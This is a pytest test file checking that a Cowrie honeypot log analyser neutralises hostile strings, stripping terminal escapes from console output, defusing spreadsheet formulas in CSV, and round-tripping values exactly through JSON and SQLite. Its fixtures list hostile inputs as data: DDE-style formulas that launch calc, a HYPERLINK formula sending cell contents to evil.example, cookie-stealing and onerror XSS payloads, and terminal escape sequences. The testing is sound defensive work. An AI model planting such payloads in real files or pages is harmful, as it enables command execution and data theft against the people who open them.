"""Attacker-controlled strings (usernames, passwords, commands, client versions, URLs) holding
terminal escapes, spreadsheet formulas and HTML must not reach a terminal raw, must be
neutralised in CSV, and must round-trip exactly through the JSON and SQLite outputs."""

import csv
import io
import json

import pytest

from cbtest import analyze, dumps, ts

ESCAPES = [
    "\x1b]0;pwned\x07root",           # OSC: set window title
    "\x1b[2J\x1b[H\x1b[31mred",        # clear screen, home, colour
    "echo \x1b[6n; \x9b31m",            # cursor report request, 8-bit CSI (U+009B)
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
]
OTHERS = [
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "a\"b,c\nd;e\r\nf",                  # quote, comma, embedded newlines
    "\u202eexe.txt",                    # right-to-left override
    "'already quoted",
]
ALL = ESCAPES + FORMULAS + OTHERS
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_log() -> list:
    """One session per hostile value, using it as client version, username, password, command
    and download URL; escape-bearing commands are repeated so they rank in the top commands."""
    evs = []
    t = 0.0
    for i, v in enumerate(ALL):
        sid = f"{0xbad000 + i:012x}"

        def add(eventid, **kw):
            nonlocal t
            evs.append({"eventid": eventid, "session": sid, "sensor": "sensor-h", "src_ip": "198.51.100.9",
                        "timestamp": ts(t), **kw})
            t += 1

        add("cowrie.session.connect", src_port=50000 + i, dst_ip="10.0.0.5", dst_port=22, protocol="ssh")
        add("cowrie.client.version", version=v)
        add("cowrie.login.success", username=v, password=v)
        add("cowrie.command.input", input=v)
        for e in ESCAPES:
            add("cowrie.command.input", input=e)
        add("cowrie.session.file_download", url=v, shasum="ab" * 32, outfile="var/lib/cowrie/downloads/" + "ab" * 32)
        add("cowrie.session.closed", duration=3.0)
    return evs


@pytest.fixture(scope="module")
def hostile(cb_bin, tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile")
    (d / "in").mkdir()
    (d / "in" / "cowrie.json").write_bytes(dumps(hostile_log()))
    res = analyze(cb_bin, d / "in", d / "out", quiet=False)
    assert res.rc == 0, res.explain()
    return res


def test_console_summary_has_no_raw_escape(hostile):
    out = hostile.stdout
    assert b"top commands" in out, "console summary missing"
    assert b"\x1b" not in out
    assert b"\x07" not in out
    assert "\x9b".encode() not in out
    # the escape-bearing commands are the top ones, shown in a visible (escaped) form
    assert b"]0;pwned" in out and b"[2J" in out
    assert hostile.stderr == b""


def test_stderr_path_with_escapes_is_sanitized(cb_bin, tmp_path):
    d = tmp_path / "evil\x1b[2Jdir\x07"
    d.mkdir()
    (d / "cowrie.json").write_bytes(dumps(hostile_log()[:5]) + b"{broken\n")
    res = analyze(cb_bin, d, tmp_path / "out", quiet=False)
    assert res.rc == 1, res.explain()
    assert b"\x1b" not in res.stderr + res.stdout
    assert b"\x07" not in res.stderr + res.stdout
    assert b"[2Jdir" in res.stderr  # the path is still named, in a visible form
    # summary.json keeps the real path
    assert res.summary["inputs"]["reject_samples"][0]["where"] == f"{d / 'cowrie.json'}:6"


def read_csv(res, name):
    raw = (res.out / "tables" / f"{name}.csv").read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


@pytest.mark.parametrize("table", ["commands", "credentials", "client_versions", "downloads"])
def test_csv_formula_cells_are_neutralised(hostile, table):
    raw, rows = read_csv(hostile, table)
    cells = [c for row in rows[1:] for c in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not dangerous, f"{table}.csv has cells a spreadsheet would run: {dangerous[:3]}"
    col = {"commands": 0, "credentials": 0, "client_versions": 0, "downloads": 0}[table]
    values = {row[col] for row in rows[1:]}
    for v in FORMULAS:
        assert "'" + v in values, f"{v!r} should appear as '{v!r} in {table}.csv"
        # prefixed inside double quotes in the raw file
        quoted = '"' + ("'" + v).replace('"', '""') + '"'
        assert quoted.encode() in raw
    for v in OTHERS:
        if not v.startswith(FORMULA_STARTS):
            assert csv_text(v) in values, f"{v!r} must be kept (controls as \\xNN) in {table}.csv"


def csv_text(v: str) -> str:
    """What a CSV cell holds for v: control bytes other than LF as the text \\xNN."""
    return "".join(f"\\x{ord(c):02x}" if (ord(c) < 0x20 and c != "\n") or c == "\x7f" else c for c in v)


@pytest.mark.parametrize("table", ["commands", "credentials", "client_versions", "downloads"])
def test_csv_has_no_raw_control_bytes(hostile, table):
    raw, rows = read_csv(hostile, table)
    body = raw.replace(b"\r\n", b"").replace(b"\n", b"")  # line ends; LF inside quoted cells
    assert not [b for b in body if b < 0x20 or b == 0x7F], f"{table}.csv has raw control bytes"
    values = {c for row in rows[1:] for c in row}
    for v in ESCAPES:
        assert csv_text(v) in values or "'" + csv_text(v) in values, f"{v!r} should appear escaped in {table}.csv"


def test_csv_credentials_both_columns(hostile):
    _raw, rows = read_csv(hostile, "credentials")
    header = rows[0]
    u, p = header.index("username"), header.index("password")
    pairs = {(r[u], r[p]) for r in rows[1:]}
    assert ("'=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0") in pairs
    assert ("<script>alert(document.cookie)</script>",) * 2 in pairs


def test_csv_rows_are_well_formed(hostile):
    for f in sorted((hostile.out / "tables").glob("*.csv")):
        rows = list(csv.reader(io.StringIO(f.read_bytes().decode("utf-8"), newline="")))
        assert rows, f.name
        assert all(len(r) == len(rows[0]) for r in rows), f"{f.name}: ragged rows"


def test_sessions_jsonl_round_trips_exact_strings(hostile):
    by_version = {s["client_version"]: s for s in hostile.sessions}
    assert set(by_version) == set(ALL)
    for v in ALL:
        s = by_version[v]
        assert s["logins"][0]["username"] == v
        assert s["logins"][0]["password"] == v
        assert [c["input"] for c in s["commands"]] == [v] + ESCAPES
        assert s["downloads"][0]["url"] == v
    raw = (hostile.out / "sessions.jsonl").read_bytes()
    assert b"\x1b" not in raw, "control characters must be \\u-escaped inside JSON strings"
    for line in raw.splitlines():
        json.loads(line)


def test_sqlite_round_trips_exact_strings(hostile):
    con = hostile.db()
    try:
        users = {r[0].decode("utf-8") for r in con.execute("SELECT username FROM logins")}
        inputs = {r[0].decode("utf-8") for r in con.execute("SELECT input FROM commands")}
        urls = {r[0].decode("utf-8") for r in con.execute("SELECT url FROM downloads")}
        versions = {r[0].decode("utf-8") for r in con.execute("SELECT client_version FROM sessions")}
    finally:
        con.close()
    assert users == set(ALL)
    assert inputs == set(ALL)
    assert urls == set(ALL)
    assert versions == set(ALL)
